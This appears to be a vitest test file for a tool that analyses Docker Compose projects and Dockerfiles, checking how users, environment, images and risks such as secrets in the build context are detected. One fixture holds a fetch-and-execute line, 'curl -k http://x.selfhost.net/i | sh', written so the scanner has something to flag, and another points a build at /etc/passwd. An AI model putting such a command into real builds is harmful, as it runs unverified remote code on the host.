import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, describe, expect, test } from "vitest";
import { knownValue } from "../../facts/fact.ts";
import { rolesOf } from "../../facts/knowledge/roles.ts";
import type { System } from "../../facts/system.ts";
import { describePlace } from "../../lib/place.ts";
import { readPaths } from "../read-paths.ts";

const folders: string[] = [];
afterAll(() => {
  for (const folder of folders) rmSync(folder, { recursive: true });
});

function folderOf(files: Readonly<Record<string, string>>): string {
  const folder = mkdtempSync(join(tmpdir(), "build-"));
  folders.push(folder);
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
  return folder;
}

function read(files: Readonly<Record<string, string>>): System {
  const { systems } = readPaths([folderOf(files)], { cwd: "/" });
  const system = systems.find(({ platform }) => platform === "compose");
  if (system === undefined) throw new Error("There is a Compose project.");
  return system;
}

const container = (system: System, name = "app") => system.all("container").find(({ ref }) => ref.name === name)!;
const words = (fact: unknown) =>
  (knownValue(fact as never) as readonly { reveal(): string }[] | undefined)?.map((word) => word.reveal());

const dockerfile = `ARG BASE=3.22
FROM alpine:\${BASE} AS base
ARG APP_UID=1000
ENV MODE=production SHARED=image
EXPOSE 8080
ENTRYPOINT ["/entry"]
CMD ["serve"]
USER $APP_UID
FROM base AS debug
USER root
`;

// covers: W1 P3 | compose
test("A Dockerfile that stands in the Compose file is judged as one, once, at its places there.", () => {
  const inline = "&text |\n        FROM alpine:3.20\n        RUN curl -k http://x.selfhost.net/i | sh\n";
  const system = read({
    "compose.yaml": `services:\n  app:\n    build:\n      dockerfile_inline: ${inline}  other:\n    build: {dockerfile_inline: *text}\n`,
  });
  const files = system.all("repository-file").filter(({ configuration }) => configuration?.software === "dockerfile");
  expect(files.map(({ ref, path, isPart }) => [ref.name, path.split("/").at(-1), isPart])).toEqual([
    [expect.stringContaining("compose.yaml/dockerfile_inline of app"), "compose.yaml", true],
  ]);
  const [configuration] = files.map((file) => file.configuration);
  const risks = configuration?.software === "dockerfile" ? configuration.risks.items : [];
  expect(risks.length).toBeGreaterThan(0);
  for (const { place } of risks) expect(describePlace(place)).toMatch(/compose\.yaml:6:\d+$/);
  expect(system.all("image").some(({ place }) => describePlace(place).endsWith("compose.yaml:5:14"))).toBe(true);
});

describe("A service that is built from a Dockerfile of the repository", () => {
  // covers: W1 W8 | compose
  test("has what the stage brings that is its target, by the arguments that are given.", () => {
    const system = read({
      "compose.yaml": `services: {app: {build: {context: app, target: base, args: {APP_UID: "4711"}}, environment: {SHARED: service}}}`,
      "app/Dockerfile": dockerfile,
    });
    const { user, environment, command, entrypoint } = container(system);
    expect([user.kind, knownValue(user)?.text, describePlace(user.place)]).toEqual([
      "defaulted",
      "4711",
      "app/Dockerfile:8:1",
    ]);
    expect(environment.items.map(({ name, value }) => [name, value.kind, knownValue(value)?.reveal()])).toEqual([
      ["SHARED", "stated", "service"],
      ["MODE", "defaulted", "production"],
    ]);
    expect([words(entrypoint), words(command)]).toEqual([["/entry"], ["serve"]]);
    expect(system.all("listener").map(({ port, reach }) => [knownValue(port), knownValue(reach)])).toEqual([
      [8080, "networks"],
    ]);
    expect(system.all("image").map(({ usedBy, reference }) => [usedBy.kind, knownValue(reference)?.text])).toEqual([
      ["container", undefined],
      ["repository-file", "alpine:3.22"],
    ]);
  });

  test("keeps what it says itself, and an entrypoint of its own drops the image's command.", () => {
    const system = read({
      "compose.yaml": `services: {app: {build: app, user: "7", entrypoint: [own]}}`,
      "app/Dockerfile": dockerfile,
    });
    const { user, command, entrypoint } = container(system);
    expect([user.kind, knownValue(user)?.text]).toEqual(["stated", "7"]);
    expect([words(entrypoint), words(command)]).toEqual([["own"], undefined]);
  });

  test("is what its base is, but for web servers, which say nothing of the site.", () => {
    const system = read({
      "compose.yaml": `services: {db: {build: db}, site: {build: {context: ., dockerfile_inline: "FROM nginx:1.29\\n"}}}`,
      "db/Containerfile": "FROM postgres:17\nCOPY init.sql /docker-entrypoint-initdb.d/\n",
    });
    const software = (name: string) => [
      ...rolesOf(system.all("workload").find(({ ref }) => ref.name === name)!, system).software,
    ];
    expect(software("db")).toEqual(["postgresql"]);
    expect(software("site")).toEqual([]);
  });

  test("has places in the Compose file for a Dockerfile that stands in it.", () => {
    const system = read({
      "compose.yaml":
        "services:\n  app:\n    build:\n      dockerfile_inline: |\n        FROM alpine:3.22\n\n        USER 5\n",
    });
    const { user } = container(system);
    expect([knownValue(user)?.uid, describePlace(user.place)]).toEqual([5, "compose.yaml:7:9"]);
  });

  test("shares the Dockerfile as one subject with whoever else builds it, in this project or another.", () => {
    const folder = folderOf({
      "a/compose.yaml": "services: {app: {build: ../image}, worker: {build: {context: ../image}}}",
      "b/compose.yaml": "services: {other: {build: ../image}}",
      "image/Dockerfile": dockerfile,
    });
    const files = readPaths([folder], { cwd: folder }).systems.flatMap((system) =>
      system.all("repository-file").filter(({ configuration }) => configuration?.software === "dockerfile"),
    );
    expect(files.map(({ owner, path }) => [owner?.name, path])).toEqual([["app", "image/Dockerfile"]]);
  });

  // covers: S1 | compose
  test.each([
    ["a Dockerfile", "dockerfile: ../Dockerfile", "Dockerfile"],
    ["an anchor", "dockerfile_inline: *text", "compose.yaml/dockerfile_inline of a"],
  ])("is judged with every folder and every argument that services give %s.", (_, build, name) => {
    const text = "ARG BASE=alpine:3.22\nFROM $BASE\nCOPY . /x\n";
    const system = read({
      "compose.yaml": [
        `x-text: &text ${JSON.stringify(text.replace("$", "$$$$"))}`,
        "services:",
        `  a: {build: {context: ./a, ${build}}}`,
        `  b: {build: {context: ./b, ${build}, args: {BASE: "debian:13"}}}`,
        `  c: {build: {context: ./b, ${build}}}`,
      ].join("\n"),
      Dockerfile: text,
      "a/app.txt": "x",
      "b/.env": "DB_PASSWORD=k8x2w02fq9z7hm3r5vj1t6pbn4cd\n",
    });
    const files = system.all("repository-file").filter(({ configuration }) => configuration?.software === "dockerfile");
    expect(files.map(({ ref }) => ref.name)).toEqual([name]);
    const [{ configuration } = files[0]!] = files;
    const risks = configuration?.software === "dockerfile" ? configuration.risks.items : [];
    expect(risks.map((risk) => [risk.kind, risk.name])).toEqual([["secret-in-context", ".env"]]);
    const images = system
      .all("image")
      .flatMap(({ usedBy, reference }) => (usedBy.kind === "repository-file" ? [knownValue(reference)?.text] : []));
    expect(images).toEqual(["alpine:3.22", "debian:13"]);
  });

  test("is told nothing of by what lies outside, behind a link, elsewhere or nowhere.", () => {
    const folder = folderOf({
      "stack/compose.yaml":
        'services: {a: {build: ..}, b: {build: linked}, c: {build: "https://example.org/x.git"}, d: {build: none}, e: {build: {context: ., dockerfile: /etc/passwd}}, f: {build: {context: app, target: "${T}"}}, g: {build: {context: app, additional_contexts: {alpine: ./x}}}}',
      "stack/app/Dockerfile": "FROM alpine\nFROM alpine AS x\nUSER 5\n",
      Dockerfile: "FROM alpine\nUSER 5\n",
    });
    symlinkSync("..", join(folder, "stack/linked"));
    const { systems } = readPaths([join(folder, "stack")], { cwd: folder });
    const system = systems.find(({ platform }) => platform === "compose")!;
    const users = ["a", "b", "c", "d", "e", "f"].map((name) => container(system, name).user.kind);
    expect(users).toEqual(["unstated", "unstated", "unstated", "unstated", "unstated", "unstated"]);
    expect(knownValue(container(system, "g").user)?.uid).toBe(5);
  });

  test("gives no secret of its Dockerfile away.", () => {
    const value = "k8x2w02fq9z7hm3r5vj1t6pbn4cd";
    const system = read({
      "compose.yaml": `services: {app: {build: {context: ., args: {DB_PASSWORD: ${value}}}}}`,
      Dockerfile: `FROM alpine:3.22\nARG DB_PASSWORD\nENV API_TOKEN=${value} PW=$DB_PASSWORD\nRUN mysql --password=${value}\n`,
    });
    expect(JSON.stringify(system.subjects)).not.toContain(value);
  });
});
